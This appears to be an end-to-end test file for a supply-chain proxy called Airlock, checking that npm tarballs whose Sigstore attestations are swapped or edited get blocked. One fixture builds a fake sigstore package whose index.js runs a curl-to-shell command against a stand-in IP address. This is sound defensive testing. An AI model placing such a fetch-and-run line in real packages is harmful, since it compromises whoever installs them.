/**
 * npm attestations with the real npm client and the built-in policy. The upstream serves the real
 * sigstore@1.0.0 tarball and the real Sigstore bundles that attest it (sigstore-js's test
 * bundles: keyless, logged in Rekor, checked against Sigstore's public-good root, built into
 * Airlock). A mirror that swaps the tarball and its integrity can keep the genuine attestation,
 * but that attests other bytes; one that edits the attestation breaks its signature.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { packageTarball } from '../../support/npm-registry/index.ts';
import { sigstoreJsBundle } from '../../support/signing-fixtures.ts';
import { daysAgo, editPackument, signalsE2e, type SignalsE2e } from './support.ts';

const REAL_TARBALL = readFileSync(join(import.meta.dirname, '..', '..', 'fixtures', 'npm', 'sigstore-1.0.0.tgz'));
const PUBLISH = 'https://github.com/npm/attestation/tree/main/specs/publish/v0.1';
const noFixtures = existsSync(sigstoreJsBundle('bundleV03-dsse')) ? false : 'the Sigstore bundles (../shared/protocols/fixtures) are not available';

function attestationDocument(bundle: unknown): Buffer {
  return Buffer.from(JSON.stringify({ attestations: [{ predicateType: PUBLISH, bundle }] }));
}

function realBundle(): Record<string, any> {
  return JSON.parse(readFileSync(sigstoreJsBundle('bundleV03-dsse'), 'utf8')) as Record<string, any>;
}

function integrityOf(bytes: Buffer): { integrity: string; shasum: string } {
  return { integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}`, shasum: createHash('sha1').update(bytes).digest('hex') };
}

/** An upstream with `sigstore` at the given versions, published with provenance, and Airlock in front of it. */
async function upstreamWithSigstore(versions: readonly string[]): Promise<SignalsE2e> {
  return signalsE2e({ packages: [{ name: 'sigstore', versions: versions.map((version) => ({ version, publishedAt: daysAgo(100), provenance: true })), distTags: { latest: versions[0] ?? '' } }] });
}

/** What the real tarball's package.json, and so the registry's manifest for it, declares. */
const REAL_DECLARED = { dependencies: { 'make-fetch-happen': '^11.0.1', 'tuf-js': '^1.0.0' }, bin: { sigstore: 'bin/sigstore.js' } };

/**
 * Serve `bytes` as sigstore@version, with their integrity in the metadata (the registry's
 * signature is left out) and the dependencies and commands their package.json declares (else the
 * version is held for the difference, `tarball.manifest_confusion`).
 */
async function serveTarball(s: SignalsE2e, version: string, bytes: Buffer, declared?: typeof REAL_DECLARED): Promise<void> {
  s.registry.putTarball('sigstore', `sigstore-${version}.tgz`, bytes);
  await editPackument(s.registry, 'sigstore', (doc) => {
    const manifest = doc.versions[version] as Record<string, unknown>;
    const dist = manifest['dist'] as Record<string, unknown>;
    Object.assign(dist, integrityOf(bytes));
    delete dist['signatures'];
    if (declared !== undefined) Object.assign(manifest, declared);
  });
}

async function artifactFacts(s: SignalsE2e, purl: string): Promise<Record<string, unknown> | undefined> {
  const decisions = await s.api<{ items: Array<{ phase: string; facts: Record<string, unknown> }> }>('GET', `decisions?purl=${encodeURIComponent(purl)}`);
  return decisions.body.items.find((d) => d.phase === 'artifact')?.facts;
}

test('a tarball whose Sigstore attestation verifies and names its bytes is served, with the signer in its facts', { skip: noFixtures }, async (t) => {
  const s = await upstreamWithSigstore(['1.0.0']);
  t.after(() => s.close());
  await serveTarball(s, '1.0.0', REAL_TARBALL, REAL_DECLARED);
  s.registry.putAttestations('sigstore', '1.0.0', attestationDocument(realBundle()));

  const p = await s.project();
  const packed = await p.npm(['pack', 'sigstore@1.0.0', '--json']);
  assert.equal(packed.code, 0, packed.output);
  assert.deepEqual(readFileSync(join(p.dir, 'sigstore-1.0.0.tgz')), REAL_TARBALL);
  const facts = await artifactFacts(s, 'pkg:npm/sigstore@1.0.0');
  assert.deepEqual(facts?.['attestations'], { status: 'verified', error: null, count: 1, verified: [PUBLISH], provenance: null });
});

test('a swapped tarball under a genuine attestation, and an edited attestation, are blocked; attestations the upstream does not serve only warn', { skip: noFixtures }, async (t) => {
  const s = await upstreamWithSigstore(['1.0.0', '1.0.1', '1.0.2']);
  t.after(() => s.close());
  // 1.0.0: other code, with that code's integrity, under the genuine attestation of the real tarball.
  const swapped = packageTarball({ name: 'sigstore', version: '1.0.0', main: 'index.js', license: 'Apache-2.0' }, [
    { path: 'index.js', content: "require('child_process').exec('curl -s http://203.0.113.9/x | sh');\n" },
  ]);
  await serveTarball(s, '1.0.0', swapped.bytes);
  s.registry.putAttestations('sigstore', '1.0.0', attestationDocument(realBundle()));
  // 1.0.1: its attestation's statement edited to name this version (the signature was over the original).
  const edited = realBundle();
  const statement = JSON.parse(Buffer.from(edited['dsseEnvelope'].payload, 'base64').toString('utf8')) as Record<string, any>;
  statement['subject'][0].name = 'pkg:npm/sigstore@1.0.1';
  edited['dsseEnvelope'].payload = Buffer.from(JSON.stringify(statement)).toString('base64');
  s.registry.putAttestations('sigstore', '1.0.1', attestationDocument(edited));
  // 1.0.2: listed with provenance, but the upstream serves no attestations for it.

  const p = await s.project();
  const packSwapped = await p.npm(['pack', 'sigstore@1.0.0']);
  assert.notEqual(packSwapped.code, 0, packSwapped.output);
  assert.match(
    packSwapped.output,
    new RegExp(
      `sigstore@1\\.0\\.0 is blocked by Airlock policy: sigstore@1\\.0\\.0: its attestations do not check out \\(the ${PUBLISH.replace(/[./]/g, '\\$&')} attestation is not for this tarball: it attests a tarball with sha512 7bea9f6e\\w+, not the one served \\(sha512 ${createHash('sha512').update(swapped.bytes).digest('hex')}\\)\\) \\[integrity\\.attestation_invalid\\]`,
    ),
  );
  assert.equal(existsSync(join(p.dir, 'sigstore-1.0.0.tgz')), false, 'the swapped tarball was never handed out');

  const packEdited = await p.npm(['pack', 'sigstore@1.0.1']);
  assert.notEqual(packEdited.code, 0, packEdited.output);
  assert.match(packEdited.output, /sigstore@1\.0\.1 is blocked by Airlock policy: sigstore@1\.0\.1: its attestations do not check out \(the \S+ attestation does not verify: [^)]*signature[^)]*\).*\[integrity\.attestation_invalid\]/);
  assert.equal(existsSync(join(p.dir, 'sigstore-1.0.1.tgz')), false);

  const packUnserved = await p.npm(['pack', 'sigstore@1.0.2']);
  assert.equal(packUnserved.code, 0, packUnserved.output);
  const facts = await artifactFacts(s, 'pkg:npm/sigstore@1.0.2');
  assert.equal((facts?.['attestations'] as { status: string }).status, 'unverifiable');
  const decisions = await s.api<{ items: Array<{ phase: string; verdict: { kind: string }; warnings?: unknown; reasons?: unknown }> }>('GET', `decisions?purl=${encodeURIComponent('pkg:npm/sigstore@1.0.2')}`);
  assert.match(JSON.stringify(decisions.body.items.find((d) => d.phase === 'artifact')), /integrity\.attestation_unverifiable/);
});
